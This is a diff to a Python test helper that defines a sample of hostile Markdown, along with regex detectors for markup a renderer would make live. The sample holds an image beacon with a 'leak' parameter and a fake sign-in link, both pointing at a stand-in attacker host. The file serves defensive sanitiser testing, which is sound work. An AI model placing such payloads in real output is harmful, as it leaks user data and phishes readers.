@@ -1,25 +1,33 @@
-"""What hostile corpus text looks like, and a check that rendered Markdown holds nothing live (UI and export tests)."""
+"""Hostile corpus text, and a check that Markdown holds nothing a renderer would make live (UI and export tests)."""
 
 from __future__ import annotations
 
 import re
+
+from core.safe_markdown import WORD_JOINER
 
 HOSTILE = ("Owners above 25% ![x](http://evil.example/beacon?leak=1) must be named "
            "[sign in](http://evil.example/login) :red[SESSION EXPIRED] :material/warning: "
            "<img src=http://evil.example/i.png> <http://evil.example/auto> see www.evil.example or "
            "https://evil.example/raw or mail x@evil.example $\\href{http://evil.example}{y}$ [ref]: http://evil.example")
 
-_LIVE = re.compile(
-    r"(?<!\\)!\[|(?<!\\)\[[^\]]*(?<!\\)\]\(|(?<!\\)\]\(|(?<!\\)<|(?<!\\):[a-z]+(?:-[a-z]+)?\[|(?<!\\):material/"
-    r"|https?:(?!\\)|(?<![\\\w])www\.|[\w.]+(?<!\\)@[\w-]+(?<!\\)\.\w|(?<!\\)\$|(?<!\\)\]:"
+_LIVE_SYNTAX = re.compile(
+    r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<|(?<!\\):[a-z]+(?:-[a-z]+)?\[|(?<!\\):material/|(?<!\\)\$|(?<!\\)\]:|(?<!\\)`"
 )
+# what the GFM autolink transform (run on the text after escapes are resolved) turns into links
+_LIVE_TEXT = re.compile(r"(?i)https?://|www(?=\.)|[-.\w+]+@[-\w]+(?:\.[-\w]+)+")
+
+
+def rendered_text(markdown: str) -> str:
+    """The text a renderer's transforms see: backslash escapes resolved (the invisible word joiners stay)."""
+    return re.sub(r"\\(.)", r"\1", markdown)
 
 
 def unescape(markdown: str) -> str:
-    """Markdown as it reads once rendered: backslash escapes dropped."""
-    return re.sub(r"\\(.)", r"\1", markdown)
+    """The text a reader sees."""
+    return rendered_text(markdown).replace(WORD_JOINER, "")
 
 
 def live_markup(markdown: str) -> list[str]:
     """Every piece of `markdown` a renderer would turn into an image, link, autolink, HTML, directive or math."""
-    return _LIVE.findall(markdown)
+    return _LIVE_SYNTAX.findall(markdown) + _LIVE_TEXT.findall(rendered_text(markdown))
